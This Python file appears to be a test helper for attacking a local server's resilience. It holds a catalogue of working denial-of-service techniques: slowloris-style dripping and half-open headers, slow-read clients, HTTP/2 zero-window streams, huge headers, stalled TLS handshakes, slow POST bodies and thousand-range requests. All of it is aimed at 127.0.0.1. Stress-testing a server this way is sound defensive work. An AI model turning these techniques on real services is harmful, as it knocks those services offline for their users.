"""Somebody who means harm, in a process of their own: many sockets of one address, each kept busy in one way.

``python attacker.py KIND ADDRESS PORT CERTIFICATE`` (an empty certificate for cleartext) says ``on`` when the attack is
in full force, goes on until its standard input ends, and then says as JSON what became of it.
"""

from __future__ import annotations

import contextlib
import json
import select
import socket
import ssl
import struct
import sys
import threading
from collections import Counter
from dataclasses import dataclass, field
from typing import Final

FROM: Final = "127.0.0.66"
"""The address of the attacker."""

_PAUSE_SECONDS: Final = 0.5
_CONNECT_SECONDS: Final = 10.0
_SMALL: Final = 2048
_BODY: Final = b"Content-Type: application/sparql-query\r\nContent-Length: 900000\r\n\r\n"


@dataclass(frozen=True)
class Kind:
    """A way to attack.

    :ivar sockets: how many are kept open; one that is closed by the other side is opened again.
    :ivar opening: what each sends first; ``{host}`` is filled in.
    :ivar drip: what each sends every half second from then on.
    :ivar reads: bytes that each reads every half second.
    :ivar again: each sends the opening again every half second.
    :ivar shakes: whether a TLS handshake is done first, where there is TLS.
    :ivar protocol: for ALPN.
    """

    sockets: int
    opening: bytes
    drip: bytes = b""
    reads: int = 0
    again: bool = False
    shakes: bool = True
    protocol: str = "http/1.1"


def _head(method: str, path: str, *lines: str, end: str = "\r\n\r\n") -> bytes:
    return ("\r\n".join([f"{method} {path} HTTP/1.1", "Host: {host}", *lines]) + end).encode()


def _frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    """A frame of HTTP/2 (RFC 9113, 4.1)."""
    return struct.pack(">I", len(content))[1:] + struct.pack(">BBI", kind, flags, stream) + content


def _zero_windows(path: bytes, streams: int) -> bytes:
    """Requests on so many streams by a client whose windows are and stay 0."""
    no_window = _frame(4, 0, 0, struct.pack(">HI", 4, 0))
    # HPACK (RFC 7541) without its dynamic table: GET, https, then literal path and host.
    fields = b"\x82\x87\x04" + bytes([len(path)]) + path + b"\x01\x09localhost"
    asked = [_frame(1, 0x5, 2 * number + 1, fields) for number in range(streams)]
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + no_window + b"".join(asked)


_DUMP: Final = "/dump/all.nq"
_MANY_RANGES: Final = "Range: bytes=" + ",".join(f"{2 * place}-{2 * place}" for place in range(1000))

KINDS: Final = {
    "readers that do not read": Kind(300, _head("GET", _DUMP)),
    "readers of a byte at a time": Kind(300, _head("GET", _DUMP), reads=1),
    "many requests in one connection, unread": Kind(50, 40 * _head("GET", _DUMP)),
    "windows of zero": Kind(10, _zero_windows(_DUMP.encode(), 90), protocol="h2"),
    "half-open heads": Kind(2000, _head("GET", "/", "X-Slow: ", end="")),
    "dripping heads": Kind(500, _head("GET", "/", end="\r\n"), drip=b"X-Slow: a\r\n"),
    "huge heads": Kind(100, _head("GET", "/", *[f"X-{n}: {'x' * 4000}" for n in range(250)]), again=True),
    "connections without a word": Kind(2000, b""),
    "connections kept after an answer": Kind(1000, _head("HEAD", "/healthz/live")),
    "TLS handshakes that stop": Kind(2000, bytes.fromhex("160301020001"), shakes=False),
    "dripping queries": Kind(100, _head("POST", "/sparql", end="\r\n") + _BODY, drip=b" "),
    "dripping files": Kind(100, _head("POST", "/api/validate?type=Project", end="\r\n") + _BODY, drip=b"a"),
    "a thousand ranges": Kind(50, _head("GET", _DUMP, _MANY_RANGES), reads=2**20, again=True),
    "heads of dumps, again and again": Kind(50, _head("HEAD", _DUMP), reads=2**16, again=True),
}


@dataclass
class Attack:
    """Sockets of one kind, kept open.

    :ivar opened: how often one was opened.
    :ivar refused: how often one could not be opened or used.
    :ivar most: how many were open at a time.
    :ivar answers: status of what was looked at, counted.
    """

    kind: Kind
    port: int
    tls: ssl.SSLContext | None
    opened: int = 0
    refused: int = 0
    most: int = 0
    answers: Counter[str] = field(default_factory=Counter)
    open: list[socket.socket] = field(default_factory=list)

    def fill(self, stopped: threading.Event) -> None:
        """Open what is missing; each at most once, since a server may refuse."""
        for _ in range(self.kind.sockets - len(self.open)):
            if stopped.is_set():
                return
            try:
                self.open.append(self._opened())
            except OSError:
                self.refused += 1
        self.most = max(self.most, len(self.open))

    def _opened(self) -> socket.socket:
        made = socket.socket()
        try:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _SMALL if not self.kind.again else 2**18)
            made.settimeout(_CONNECT_SECONDS)
            made.bind((FROM, 0))
            made.connect(("127.0.0.1", self.port))
            if self.tls is not None and self.kind.shakes:
                made = self.tls.wrap_socket(made, server_hostname="localhost")
            made.setblocking(False)
            self.opened += 1
            self._send(made, self.kind.opening)
        except OSError:
            made.close()
            raise
        return made

    def go_on(self) -> None:
        """Send and read what the kind does every half second; forget the sockets that were closed."""
        kept = []
        for each in self.open:
            try:
                if self.kind.reads:
                    self._read(each)
                if _has_ended(each):
                    raise ConnectionError
                self._send(each, self.kind.opening if self.kind.again else self.kind.drip)
                kept.append(each)
            except OSError:
                self._close(each)
        self.open = kept

    @staticmethod
    def _send(to: socket.socket, content: bytes) -> None:
        with contextlib.suppress(BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            # A TLS socket that sends nothing sends a record all the same.
            _ = content and to.send(content.replace(b"{host}", b"localhost"))

    def _read(self, of: socket.socket) -> None:
        with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
            content = of.recv(self.kind.reads)
            if not content:
                raise ConnectionError
            self._count(content)

    def _count(self, content: bytes) -> None:
        if content.startswith(b"HTTP/"):
            self.answers[content[9:12].decode("latin-1")] += 1

    def end(self) -> None:
        """Close what is still open."""
        for each in self.open:
            self._close(each)

    def _close(self, each: socket.socket) -> None:
        """Close a socket after a look at what came first."""
        with contextlib.suppress(OSError):
            self._count(each.recv(64))
        each.close()


def _has_ended(each: socket.socket) -> bool:
    """Whether the other side closed it; of what is not read, only the kernel's mark of an error tells."""
    poller = select.poll()
    poller.register(each, select.POLLRDHUP)
    return bool(poller.poll(0))


def main(name: str, port: int, certificate: str) -> None:
    """Attack until standard input ends."""
    kind = KINDS[name]
    tls = None
    if certificate:
        tls = ssl.create_default_context(cafile=certificate)
        tls.set_alpn_protocols([kind.protocol])
    attack = Attack(kind, port, tls)
    stopped = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), stopped.set()), daemon=True).start()
    attack.fill(stopped)
    _say("on")
    while not stopped.wait(_PAUSE_SECONDS):
        attack.go_on()
        attack.fill(stopped)
    still = len(attack.open)
    attack.end()
    told = {"opened": attack.opened, "refused": attack.refused, "most": attack.most, "still": still}
    _say(json.dumps({**told, "answers": attack.answers}))


def _say(line: str) -> None:
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3])
